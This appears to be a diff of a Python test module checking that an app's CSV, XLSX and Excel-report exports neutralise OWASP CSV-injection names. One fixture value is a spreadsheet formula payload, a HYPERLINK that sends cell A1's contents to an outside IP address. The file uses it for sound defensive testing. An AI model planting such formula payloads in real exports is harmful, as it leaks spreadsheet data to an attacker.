@@ -2,7 +2,8 @@
 
 A store whose names start with ``=``, ``+``, ``-`` or ``@`` (the OWASP "CSV
 injection" payloads) is exported through the CLI (``gaps`` and ``summary``,
-CSV and XLSX) and through the Data page's quality download. XLSX cells holding
+CSV and XLSX), through the pages' table downloads (the Data page's quality
+findings) and through the Excel report (ui.report_book). XLSX cells holding
 those names are string cells equal to the name; CSV cells carry a leading
 apostrophe; numeric columns (negative numbers included) stay numeric.
 """
@@ -25,7 +26,9 @@ from geo.engine import Coverage
 from geo.export import FORMULA_STARTS, frame_to_bytes, neutralise_text
 from loaders.dataset import read_dataset
 from loaders.store import ChangeRecord, Store
-from ui.quality_view import findings_frame, with_places
+from ui.exports import ExportRequest, render
+from ui.quality_view import findings_file, with_places
+from ui.report_book import table_csv, table_xlsx
 
 MONTH: Final = "2026-10"
 DESA_NAME: Final = '=HYPERLINK("http://198.51.100.7/?"&A1,"klik")'
@@ -116,18 +119,39 @@ def test_summary_xlsx_and_csv(formula_store: Store, tmp_path: Path, by: str) -> 
 
 
 # -- the Data page's quality download --------------------------------------------------------------
-def test_quality_download_xlsx_and_csv(formula_store: Store) -> None:
+@pytest.mark.parametrize("lang", ["id", "en"])
+def test_quality_download_xlsx_and_csv(formula_store: Store, lang: str) -> None:
     cov = Coverage(read_dataset(formula_store))
     shown = with_places(cov.quality(MONTH), cov.dataset.desa)
-    table = findings_frame(shown)  # what ui.quality_view.render offers for download
+    table = findings_file(shown)  # what ui.quality_view.show_findings offers for download
     assert (table == POSYANDU_NAME).any().any(), "the stopped posyandu is a finding"
-    rows = _xlsx_cells_from(frame_to_bytes(table, "xlsx"))
+    rows = _xlsx_cells_from(table_xlsx(table, lang=lang))
     cell = _cell(rows, POSYANDU_NAME)
     assert cell.data_type == "s"
     assert not any(c.data_type == "f" for row in rows for c in row)
-    frame = pd.read_csv(io.BytesIO(frame_to_bytes(table, "csv")), dtype=str, keep_default_na=False)
+    separator = ";" if lang == "id" else ","
+    frame = pd.read_csv(io.BytesIO(table_csv(table, lang=lang)), sep=separator, dtype=str, keep_default_na=False)
     assert "'" + POSYANDU_NAME in frame.to_numpy()
     assert "'" + KECAMATAN_NAME in frame.to_numpy()
+
+
+def test_excel_report_keeps_names_as_text(formula_store: Store) -> None:
+    cov = Coverage(read_dataset(formula_store))
+    request = ExportRequest(
+        coverage=cov,
+        month=MONTH,
+        kode_desa=tuple(cov.desa_table(MONTH)["kode_desa"]),
+        area=KABUPATEN_NAME,
+        rules=cov.rules,
+        data_version="versi data 1",
+    )
+    book = openpyxl.load_workbook(io.BytesIO(render(request, "xlsx")))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert not any(c.data_type == "f" for c in cells)
+    for name in (DESA_NAME, KECAMATAN_NAME, POSYANDU_NAME):
+        found = [c for c in cells if c.value == name]
+        assert found and all(c.data_type == "s" for c in found), name
+    assert any(c.value == f"Wilayah: {KABUPATEN_NAME}" for c in cells)
 
 
 def _xlsx_cells_from(data: bytes) -> list[list[openpyxl.cell.cell.Cell]]:
